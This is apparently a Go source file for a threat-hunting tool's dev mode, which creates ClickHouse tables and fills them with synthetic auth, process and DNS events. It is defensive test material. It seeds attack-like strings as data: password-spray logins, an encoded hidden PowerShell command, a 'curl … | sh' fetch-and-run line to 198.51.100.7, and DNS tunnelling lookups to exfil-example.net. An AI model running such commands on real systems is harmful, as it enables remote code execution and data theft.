package main

import (
	"context"
	"fmt"
	"log/slog"
	"time"

	"github.com/ClickHouse/clickhouse-go/v2/lib/driver"
)

// The sample data `hunt-runner dev` generates: database sample with auth, process and DNS
// events, mostly benign with a few attack patterns mixed in, so the example hunts find
// something every few minutes.
var sampleDDL = []string{
	"CREATE DATABASE IF NOT EXISTS sample",
	`CREATE TABLE IF NOT EXISTS sample.auth_events (
    ts      DateTime64(3, 'UTC'),
    user    LowCardinality(String),
    src_ip  String,
    outcome LowCardinality(String),
    method  LowCardinality(String)
) ENGINE = MergeTree ORDER BY ts`,
	`CREATE TABLE IF NOT EXISTS sample.process_events (
    ts           DateTime64(3, 'UTC'),
    host         LowCardinality(String),
    user         LowCardinality(String),
    process      LowCardinality(String),
    parent       LowCardinality(String),
    command_line String
) ENGINE = MergeTree ORDER BY ts`,
	`CREATE TABLE IF NOT EXISTS sample.dns_events (
    ts     DateTime64(3, 'UTC'),
    host   LowCardinality(String),
    query  String,
    qtype  LowCardinality(String),
    answer String
) ENGINE = MergeTree ORDER BY ts`,
}

// sampleInserts fill [from, to) (epoch milliseconds) with events, generated inside ClickHouse
// so that one round trip per table covers any span. Rates: ~4 auth, ~2 process and ~6 DNS
// events per second; one host in ~40 s tries a password spray, and rare suspicious processes
// and DNS tunnelling lookups appear.
func sampleInserts(from, to int64) []string {
	span := to - from
	if span <= 0 {
		return nil
	}
	n := func(perSecond int64) int64 { return max(1, span*perSecond/1000) }
	ts := func(count int64) string {
		return fmt.Sprintf("fromUnixTimestamp64Milli(toInt64(%d + intDiv(number * %d, %d)), 'UTC')", from, span, count)
	}
	auth := n(4)
	proc := n(2)
	dns := n(6)
	return []string{
		fmt.Sprintf(`INSERT INTO sample.auth_events
SELECT %s,
       ['alice','bob','carol','dave','erin','frank','svc-backup','admin'][1 + rand(1) %% 8],
       if(intDiv(number, 20) %% 10 = 7, concat('203.0.113.', toString(1 + intDiv(number, 200) %% 5)),
          concat('10.0.', toString(rand(2) %% 4), '.', toString(rand(3) %% 250))),
       if(intDiv(number, 20) %% 10 = 7 OR rand(4) %% 20 = 0, 'failure', 'success'),
       ['password','sso','ssh-key'][1 + rand(5) %% 3]
FROM numbers(%d)`, ts(auth), auth),
		fmt.Sprintf(`INSERT INTO sample.process_events
SELECT %s,
       concat('ws-', toString(rand(1) %% 12)),
       ['alice','bob','carol','dave','erin','frank'][1 + rand(2) %% 6],
       if(rand(3) %% 150 = 0, 'powershell.exe', ['chrome.exe','code','bash','python3','sshd','explorer.exe'][1 + rand(4) %% 6]),
       ['explorer.exe','systemd','bash','winword.exe'][1 + rand(5) %% 4],
       if(rand(3) %% 150 = 0, 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
          if(rand(6) %% 300 = 0, 'bash -c "curl -s http://198.51.100.7/x.sh | sh"', 'normal --flag'))
FROM numbers(%d)`, ts(proc), proc),
		fmt.Sprintf(`INSERT INTO sample.dns_events
SELECT %s,
       concat('ws-', toString(rand(1) %% 12)),
       if(rand(2) %% 120 = 0,
          concat(lower(hex(randomString(20))), '.t.exfil-example.net'),
          ['example.com','api.github.com','login.microsoftonline.com','updates.vendor.example','intranet.local'][1 + rand(3) %% 5]),
       if(rand(2) %% 120 = 0, 'TXT', ['A','AAAA','CNAME'][1 + rand(4) %% 3]),
       concat('192.0.2.', toString(rand(5) %% 250))
FROM numbers(%d)`, ts(dns), dns),
	}
}

// sampleGenerator keeps the sample tables fresh: it backfills the last Backfill on start and
// then appends events up to now every Every. It is a Start(ctx) component.
type sampleGenerator struct {
	conn     driver.Conn
	log      *slog.Logger
	every    time.Duration
	backfill time.Duration
	last     int64 // epoch ms covered so far
}

func (g *sampleGenerator) setup(ctx context.Context) error {
	for _, q := range sampleDDL {
		if err := g.conn.Exec(ctx, q); err != nil {
			return fmt.Errorf("sample schema: %w", err)
		}
	}
	var maxTS int64
	if err := g.conn.QueryRow(ctx, "SELECT toInt64(toUnixTimestamp64Milli(max(ts))) FROM sample.auth_events").Scan(&maxTS); err != nil {
		return fmt.Errorf("sample data: %w", err)
	}
	now := time.Now().UnixMilli()
	g.last = now - g.backfill.Milliseconds()
	if maxTS > g.last {
		g.last = maxTS + 1 // a kept --data directory: continue where it stopped
	}
	return g.fill(ctx, now)
}

func (g *sampleGenerator) fill(ctx context.Context, to int64) error {
	for _, q := range sampleInserts(g.last, to) {
		if err := g.conn.Exec(ctx, q); err != nil {
			return fmt.Errorf("sample data: %w", err)
		}
	}
	g.last = to
	return nil
}

func (g *sampleGenerator) Start(ctx context.Context) error {
	t := time.NewTicker(g.every)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return nil
		case <-t.C:
			if err := g.fill(ctx, time.Now().UnixMilli()); err != nil && ctx.Err() == nil {
				g.log.Warn("generating sample events failed", "error", err)
			}
		}
	}
}
